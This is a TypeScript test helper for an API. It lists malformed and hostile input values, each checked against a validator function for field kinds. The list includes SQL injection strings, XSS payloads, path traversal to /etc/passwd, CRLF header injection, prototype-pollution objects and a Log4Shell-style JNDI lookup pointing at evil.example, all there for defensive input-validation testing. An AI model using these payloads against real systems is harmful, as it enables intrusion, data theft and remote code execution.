/**
 * Values an attacker or a broken client puts where the API expects something else. Some are
 * valid for some fields (an HTML string is a fine title: it is stored verbatim and shown as
 * text); the field kinds below say which.
 */
export const HOSTILE_VALUES: ReadonlyArray<readonly [label: string, value: unknown]> = [
  ['null', null],
  ['true', true],
  ['false', false],
  ['zero', 0],
  ['negative number', -1],
  ['fraction', 1.5],
  ['huge number', 1e308],
  ['unsafe integer', 9007199254740993],
  ['empty string', ''],
  ['blank string', '   '],
  ['10 kB string', 'x'.repeat(10_000)],
  ['NUL', '\u0000'],
  ['embedded NUL', 'ab\u0000cd'],
  ['bell and escape', 'a\u0007\u001b[2Jb'],
  ['DEL', 'a\u007f'],
  ['lone high surrogate', 'a\ud800b'],
  ['lone low surrogate', '\udfff'],
  ['byte-order mark only', '\ufeff'],
  ['CRLF header injection', 'a\r\nSet-Cookie: admin=1'],
  ['right-to-left override', '\u202egnp.exe'],
  ['emoji', '🩺 checked'],
  ['SQL tautology', "' OR '1'='1"],
  ['SQL drop table', `'); DROP TABLE "Notification"; --`],
  ['SQL union', `1 UNION SELECT "passwordHash" FROM "User" --`],
  ['SQL sleep', '1; SELECT pg_sleep(10)'],
  ['NoSQL operator', { $gt: '' }],
  ['script tag', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['javascript: URL', 'javascript:alert(1)'],
  ['template injection', '{{constructor.constructor("alert(1)")()}}'],
  ['path traversal', '../../../etc/passwd'],
  ['format string', '%s%s%n%x'],
  ['JNDI lookup', '${jndi:ldap://evil.example/a}'],
  ['numeric string', '123'],
  ['negative numeric string', '-5'],
  ['exponent string', '1e3'],
  ['hex string', '0x10'],
  ['almost a UUID', '00000000-0000-4000-8000-00000000000g'],
  ['nil UUID', '00000000-0000-0000-0000-000000000000'],
  ['empty array', []],
  ['array of strings', ['a', 'b']],
  ['array of objects', [{}]],
  ['empty object', {}],
  ['object', { a: 1 }],
  ['nested objects', { a: { b: { c: { d: { e: 1 } } } } }],
  ['nested 40 deep', nest(40)],
  ['__proto__ object', JSON.parse('{"__proto__":{"isAdmin":true}}')],
  ['constructor.prototype object', { constructor: { prototype: { isAdmin: true } } }],
];

function nest(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** Half a surrogate pair, C0 controls but tab, DEL: what IsPlainText refuses. */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;

/** What a field accepts, as the API documents it; everything else must be refused. */
export type FieldKind =
  | { kind: 'text'; min: number; max: number; multiline?: boolean; optional?: boolean }
  | { kind: 'string'; min: number; max: number }
  | { kind: 'never'; optional?: boolean }
  | { kind: 'boolean' }
  | { kind: 'amount' }
  | { kind: 'array-empty-ok' };

export function accepts(field: FieldKind, value: unknown): boolean {
  if (value === null && 'optional' in field && field.optional) return true;
  switch (field.kind) {
    case 'text':
      return (
        typeof value === 'string' &&
        value.length >= field.min &&
        value.length <= field.max &&
        /\S/.test(value) &&
        !LONE_SURROGATE.test(value) &&
        !CONTROL.test(value) &&
        (field.multiline === true || !/[\r\n]/.test(value))
      );
    case 'string':
      return typeof value === 'string' && value.length >= field.min && value.length <= field.max;
    case 'never':
      return false;
    case 'boolean':
      return typeof value === 'boolean';
    case 'amount':
      return (typeof value === 'string' || (typeof value === 'number' && Number.isFinite(value))) && /^\d{1,10}(\.\d{1,2})?$/.test(String(value));
    case 'array-empty-ok':
      return Array.isArray(value) && value.length === 0;
  }
}
